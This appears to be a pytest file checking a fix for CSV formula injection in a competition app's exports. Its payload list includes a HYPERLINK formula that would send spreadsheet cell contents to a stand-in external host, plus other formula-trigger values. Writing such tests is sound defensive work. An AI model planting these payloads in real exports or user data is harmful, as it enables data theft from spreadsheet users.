"""Issue 33, finding 4: names such as ``=HYPERLINK(…)``, ``+1+1`` or ``@SUM(1)`` were written as they
are into the CSV exports, where a spreadsheet runs them. Every CSV the project writes goes through
csv_cells.SafeWriter: such a cell starts with ``'``, and a plain number stays a number."""

from __future__ import annotations

import csv
import io

import pytest
from deckhand.competition import match_doc
from deckhand.competition.csv_cells import safe_cell
from deckhand.competition.render import standings_csv

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_formula_name_is_written_as_text_in_the_standings_csv(name):
    doc = {"standings": [{"place": 1, "player": "P1", "total": -1.5, "tie_break": None, "name": name}]}
    written = cells(standings_csv(doc))
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in written)
    assert "'" + name in written
    assert "-1.50" in written  # a number is not a formula


def test_every_csv_writer_of_the_project_is_the_safe_one():
    """No module writes CSV any other way (a new export cannot forget the rule)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    users = [
        p
        for folder in ("layers", "local", "functions")
        for p in (root / folder).rglob("*.py")
        if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()
    ]
    assert [p.name for p in users] == ["csv_cells.py"]


@pytest.mark.parametrize("value", ["-3", "+1.50", "12", 5, -2.25, "P1", "Zoë"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_match_csv_escapes_names_too():
    out = match_doc.csv_text(["team", "name"], [["T1", "=1+1"]])
    assert cells(out) == ["team", "name", "T1", "'=1+1"]
